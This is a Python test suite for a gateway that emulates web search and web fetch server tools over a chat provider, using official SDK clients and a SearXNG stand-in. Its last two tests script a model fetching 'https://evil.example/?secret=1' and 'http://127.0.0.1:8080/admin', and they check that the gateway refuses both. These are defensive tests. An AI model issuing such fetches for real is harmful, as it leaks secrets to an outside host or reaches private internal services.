"""Web search done by the gateway, through the whole of it: official SDKs, a chat provider, a SearXNG stand-in."""

from collections.abc import Callable
from pathlib import Path

import anthropic
import msgspec
import openai
import pytest

from app.chat import call, says, text
from app.sdks import message_of
from app.searx import TRAINS, Searx
from app.whole import Asked, Reply, Upstream, through
from trunkline.relay.ports import ExchangeRecord

pytestmark = pytest.mark.server

RECORDED = (
    Path(__file__).parent.parent / "fixtures/clients/claude-code/websearch-server-tool/003.request.json"
)
TOOL = {"type": "web_search_20250305", "name": "web_search", "max_uses": 3}
ANSWER = "Trains run on [rails](https://rails.example/how)."
Turns = Callable[[Asked], object]


def config(extra: str = "") -> Callable[[str], str]:
    return lambda url: (
        f"""
providers:
  local: {{kind: custom, speaks: {{openai_chat: "{url}/v1"}}, models: [m, claude-opus-5-5]}}
search: {{backend: searxng, url: "{url}/searx", results: 5{extra}}}
"""
    )


def model(*turns: dict[str, object]) -> Callable[[Asked], Reply]:
    left = list(turns)

    def answer(asked: Asked) -> Reply:
        return says(left.pop(0), stream=bool(asked.body.get("stream")))

    return answer


def run(
    turns: Callable[[Asked], Reply],
    searx: Searx,
    folder: Path,
    ask: Callable[[str], object],
    extra: str = "",
) -> tuple[object, list[Asked], list[ExchangeRecord]]:
    """What ``ask`` returned, what the model was asked, and the records."""

    def answer(asked: Asked) -> Reply:
        return searx.answer(asked) if asked.path.startswith("/searx") else turns(asked)

    upstream: Upstream
    result, upstream, records = through(answer, config(extra), folder, ask)
    return result, [one for one in upstream.asked if one.path.startswith("/v1")], records


def ask_claude(stream: bool, **more: object) -> Callable[[str], anthropic.types.Message]:
    fields: dict[str, object] = {
        "model": "m", "max_tokens": 100, "tools": [TOOL],
        "messages": [{"role": "user", "content": "what do trains run on?"}], **more,
    }  # fmt: skip
    return lambda url: message_of(url, fields, stream=stream)


@pytest.mark.parametrize("stream", [False, True])
def test_a_messages_client_sees_the_search_its_results_and_citations(tmp_path: Path, stream: bool) -> None:
    searx = Searx()
    turns = model(call("what trains run on"), text(ANSWER))
    message, asked, records = run(turns, searx, tmp_path, ask_claude(stream))
    assert isinstance(message, anthropic.types.Message)
    use, result, words = message.content
    assert isinstance(use, anthropic.types.ServerToolUseBlock)
    assert (use.name, use.input) == ("web_search", {"query": "what trains run on"})
    assert isinstance(result, anthropic.types.WebSearchToolResultBlock)
    assert result.tool_use_id == use.id
    assert isinstance(result.content, list)
    assert [(one.url, one.title, one.page_age) for one in result.content] == [
        ("https://rails.example/how", "How trains run", "2026-05-01T00:00:00"),
        ("https://docs.other.example/wheels", "Wheels", None),
    ]
    assert isinstance(words, anthropic.types.TextBlock)
    assert words.text == ANSWER
    assert words.citations is not None
    (cited,) = words.citations
    assert isinstance(cited, anthropic.types.CitationsWebSearchResultLocation)
    assert (cited.url, cited.cited_text) == ("https://rails.example/how", "Trains run on rails & steel.")
    assert message.stop_reason == "end_turn"
    assert message.usage.server_tool_use is not None
    assert message.usage.server_tool_use.web_search_requests == 1
    assert (message.usage.input_tokens, message.usage.output_tokens) == (20, 10)
    assert searx.queries == ["what trains run on"]
    assert_asked(asked)
    (record,) = records
    assert (record.outcome, len(record.attempts), record.losses) == ("ok", 2, ())
    assert record.usage is not None
    assert (record.usage.input, record.usage.output, record.usage.web_searches) == (20, 10, 1)


def assert_asked(asked: list[Asked]) -> None:
    """A function in place of the server tool, and its result in the second request."""
    first, second = asked
    (tool,) = first.body["tools"]  # type: ignore[misc]
    assert tool["type"] == "function"
    assert tool["function"]["name"] == "web_search"
    assert second.body["tools"] == first.body["tools"]
    before = first.body["messages"]
    assert isinstance(before, list)
    after = second.body["messages"]
    assert isinstance(after, list)
    assert after[: len(before)] == before
    made, outcome = after[len(before) :]
    assert made["tool_calls"][0]["function"]["arguments"] == '{"query":"what trains run on"}'
    assert outcome["role"] == "tool"
    assert outcome["tool_call_id"] == made["tool_calls"][0]["id"]
    assert (
        "[1] How trains run\nhttps://rails.example/how\n2026-05-01T00:00:00\nTrains run on rails & steel."
        in (outcome["content"])
    )


def test_the_recorded_request_of_claude_code(tmp_path: Path) -> None:
    body = msgspec.json.encode(msgspec.json.decode(RECORDED.read_bytes())["body"])

    def ask(url: str) -> list[str]:
        with (
            anthropic.Anthropic(api_key="x", base_url=url, max_retries=0) as client,
            client.messages.with_streaming_response.create(
                max_tokens=1, messages=[], model="m", extra_body=msgspec.json.decode(body), stream=True
            ) as answer,
        ):
            return [line for line in answer.iter_lines() if line.startswith("data: ")]

    searx = Searx()
    lines, asked, _ = run(model(call("scripted upstream weather"), text(ANSWER)), searx, tmp_path, ask)
    assert isinstance(lines, list)
    events = [msgspec.json.decode(line.removeprefix("data: ")) for line in lines]
    opened = [one["content_block"]["type"] for one in events if one["type"] == "content_block_start"]
    assert opened == ["server_tool_use", "web_search_tool_result", "text"]
    assert [one["index"] for one in events if one["type"] == "content_block_stop"] == [0, 1, 2]
    assert [one["type"] for one in events].count("message_start") == 1
    assert events[-1]["type"] == "message_stop"
    assert events[-2]["usage"]["server_tool_use"]["web_search_requests"] == 1
    assert searx.queries == ["scripted upstream weather"]
    assert asked[0].body["model"] == "claude-opus-5-5"


@pytest.mark.parametrize("stream", [False, True])
def test_a_responses_client_gets_items_and_annotations(tmp_path: Path, stream: bool) -> None:
    fields: dict[str, object] = {
        "model": "m", "input": "what do trains run on?", "tools": [{"type": "web_search"}], "store": False
    }  # fmt: skip

    def ask(url: str) -> openai.types.responses.Response:
        with openai.OpenAI(api_key="x", base_url=f"{url}/v1", max_retries=0) as client:
            if not stream:
                return client.responses.create(**fields)  # type: ignore[call-overload, no-any-return]
            with client.responses.stream(**fields) as events:  # type: ignore[call-overload]
                kinds = [event.type for event in events]
                assert "response.output_text.annotation.added" in kinds
                return events.get_final_response()  # type: ignore[no-any-return]

    response, _, _ = run(model(call("rails"), text(ANSWER)), Searx(), tmp_path, ask)
    assert isinstance(response, openai.types.responses.Response)
    searched, message = response.output
    assert searched.type == "web_search_call"
    assert searched.status == "completed"
    assert searched.action.type == "search"
    assert searched.action.query == "rails"
    assert message.type == "message"
    (part,) = message.content
    assert part.type == "output_text"
    (note,) = part.annotations
    assert note.type == "url_citation"
    assert part.text[note.start_index : note.end_index] == "[rails](https://rails.example/how)"
    assert response.output_text == ANSWER


@pytest.mark.parametrize("stream", [False, True])
def test_a_chat_client_asks_with_options_and_gets_annotations(tmp_path: Path, stream: bool) -> None:
    def ask(url: str) -> tuple[str, list[object]]:
        with openai.OpenAI(api_key="x", base_url=f"{url}/v1", max_retries=0) as client:
            messages: list[object] = [{"role": "user", "content": "what do trains run on?"}]
            if not stream:
                answer = client.chat.completions.create(  # type: ignore[call-overload]
                    model="m", messages=messages, web_search_options={}
                )
                message = answer.choices[0].message
                return message.content, [note.url_citation.url for note in message.annotations]
            words, urls = "", []
            for chunk in client.chat.completions.create(  # type: ignore[call-overload]
                model="m", messages=messages, web_search_options={}, stream=True
            ):
                delta = chunk.choices[0].delta if chunk.choices else None
                words += (delta.content or "") if delta else ""
                urls += [one["url_citation"]["url"] for one in getattr(delta, "annotations", None) or ()]
            return words, urls

    result, asked, _ = run(model(call("rails"), text(ANSWER)), Searx(), tmp_path, ask)
    assert result == (ANSWER, ["https://rails.example/how"])
    assert "web_search_options" not in asked[0].body


def test_uses_are_bounded_by_the_client_and_the_model_is_told(tmp_path: Path) -> None:
    searx = Searx()
    tool = {**TOOL, "max_uses": 1}
    turns = model(call("one"), call("two"), text("done"))
    message, asked, _ = run(turns, searx, tmp_path, ask_claude(True, tools=[tool]))
    assert isinstance(message, anthropic.types.Message)
    assert searx.queries == ["one"]
    last = message.content[3]
    assert isinstance(last, anthropic.types.WebSearchToolResultBlock)
    assert isinstance(last.content, anthropic.types.WebSearchToolResultError)
    assert last.content.error_code == "max_uses_exceeded"
    assert asked[1].body["tool_choice"] == "none"
    assert message.content[-1].type == "text"
    assert message.usage.server_tool_use is not None
    assert message.usage.server_tool_use.web_search_requests == 1


def test_a_model_that_never_stops_searching_is_stopped(tmp_path: Path) -> None:
    searx = Searx()
    message, asked, records = run(
        lambda asked: says(call("again"), stream=True), searx, tmp_path, ask_claude(True), ", max_uses: 2"
    )
    assert isinstance(message, anthropic.types.Message)
    assert searx.queries == ["again", "again"]
    assert len(asked) == 4
    assert message.stop_reason == "end_turn"
    assert records[0].outcome == "ok"


def test_a_forced_search_is_forced_once(tmp_path: Path) -> None:
    choice = {"type": "tool", "name": "web_search"}
    _, asked, _ = run(
        model(call("one"), text("done")), Searx(), tmp_path, ask_claude(False, tool_choice=choice)
    )
    assert asked[0].body["tool_choice"] == {"type": "function", "function": {"name": "web_search"}}
    assert asked[1].body["tool_choice"] == "auto"


@pytest.mark.parametrize("stream", [False, True])
def test_domains_are_honoured(tmp_path: Path, stream: bool) -> None:
    searx = Searx()
    tool = {**TOOL, "allowed_domains": ["other.example"]}
    message, _, _ = run(model(call("q"), text("ok")), searx, tmp_path, ask_claude(stream, tools=[tool]))
    assert isinstance(message, anthropic.types.Message)
    result = message.content[1]
    assert isinstance(result, anthropic.types.WebSearchToolResultBlock)
    assert isinstance(result.content, list)
    assert [one.url for one in result.content] == ["https://docs.other.example/wheels"]
    assert searx.queries == ["q site:other.example"]


@pytest.mark.parametrize("status", [500, 429, 403])
def test_a_search_service_that_fails_is_an_error_block_and_the_answer_goes_on(
    tmp_path: Path, status: int
) -> None:
    turns = model(call("q"), text("I could not look."))
    message, asked, _ = run(turns, Searx(lambda query: status), tmp_path, ask_claude(True))
    assert isinstance(message, anthropic.types.Message)
    result = message.content[1]
    assert isinstance(result, anthropic.types.WebSearchToolResultBlock)
    assert isinstance(result.content, anthropic.types.WebSearchToolResultError)
    assert result.content.error_code == ("too_many_requests" if status == 429 else "unavailable")
    messages = asked[1].body["messages"]
    assert isinstance(messages, list)
    assert "The search failed" in messages[-1]["content"]
    assert message.content[2].type == "text"


@pytest.mark.parametrize("stream", [False, True])
def test_the_clients_own_tools_are_called_beside_a_search(tmp_path: Path, stream: bool) -> None:
    both = call("trains")
    both["tool_calls"].append(  # type: ignore[attr-defined]
        {"id": "call_9", "type": "function", "function": {"name": "Read", "arguments": '{"path":"a"}'}}
    )
    read = {"name": "Read", "input_schema": {"type": "object", "properties": {"path": {"type": "string"}}}}
    message, asked, _ = run(model(both), Searx(), tmp_path, ask_claude(stream, tools=[TOOL, read]))
    assert isinstance(message, anthropic.types.Message)
    kinds = [block.type for block in message.content]
    assert sorted(kinds) == ["server_tool_use", "tool_use", "web_search_tool_result"]
    assert message.stop_reason == "tool_use"
    assert len(asked) == 1


def test_what_the_client_sends_back_is_text_to_a_provider_without_search(tmp_path: Path) -> None:
    message, _, _ = run(model(call("trains"), text(ANSWER)), Searx(), tmp_path, ask_claude(False))
    assert isinstance(message, anthropic.types.Message)
    history = [
        {"role": "user", "content": "what do trains run on?"},
        {
            "role": "assistant",
            "content": [block.model_dump(exclude_none=True) for block in message.content],
        },
        {"role": "user", "content": "and ships?"},
    ]
    _, asked, _ = run(model(text("water")), Searx(), tmp_path, ask_claude(False, messages=history))
    said = msgspec.json.encode(asked[0].body["messages"]).decode()
    assert "https://rails.example/how" in said
    assert "Trains run on rails & steel." in said
    assert "trunkline1.search" not in said


@pytest.mark.parametrize("stream", [False, True])
def test_a_later_answer_that_fails_is_asked_again(tmp_path: Path, stream: bool) -> None:
    replies: list[object] = [call("trains"), 503, text(ANSWER)]

    def answer(asked: Asked) -> Reply:
        reply = replies.pop(0)
        return reply if isinstance(reply, int) else says(reply, stream=stream)  # type: ignore[arg-type]

    message, asked, records = run(answer, Searx(), tmp_path, ask_claude(stream))
    assert isinstance(message, anthropic.types.Message)
    assert [block.type for block in message.content] == [
        "server_tool_use",
        "web_search_tool_result",
        "text",
    ]
    assert len(asked) == 3
    assert asked[1].body == asked[2].body
    assert records[0].outcome == "ok"


def test_without_a_search_tool_nothing_changes(tmp_path: Path) -> None:
    searx = Searx()
    message, asked, _ = run(model(text("hi")), searx, tmp_path, ask_claude(False, tools=[]))
    assert isinstance(message, anthropic.types.Message)
    assert "tools" not in asked[0].body
    assert not searx.queries


def test_pages_that_never_came_up_are_not_read(tmp_path: Path) -> None:
    fetch = {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 2}
    turns = model(call("https://evil.example/?secret=1", name="web_fetch", field="url"), text("no"))
    message, _, _ = run(turns, Searx(), tmp_path, ask_claude(True, tools=[fetch]))
    assert isinstance(message, anthropic.types.Message)
    use, result, _ = message.content
    assert use.type == "server_tool_use"
    assert use.input == {"url": "https://evil.example/?secret=1"}
    assert result.type == "web_fetch_tool_result"
    assert result.content.type == "web_fetch_tool_result_error"
    assert result.content.error_code == "url_not_allowed"


def test_pages_at_private_addresses_are_not_read(tmp_path: Path) -> None:
    fetch = {"type": "web_fetch_20250910", "name": "web_fetch"}
    url = "http://127.0.0.1:8080/admin"
    turns = model(call(url, name="web_fetch", field="url"), text("no"))
    asks = ask_claude(False, tools=[fetch], messages=[{"role": "user", "content": f"read {url}"}])
    message, asked, _ = run(turns, Searx(), tmp_path, asks)
    assert isinstance(message, anthropic.types.Message)
    result = message.content[1]
    assert result.type == "web_fetch_tool_result"
    assert result.content.type == "web_fetch_tool_result_error"
    assert result.content.error_code == "url_not_allowed"
    assert TRAINS
    assert len(asked) == 2
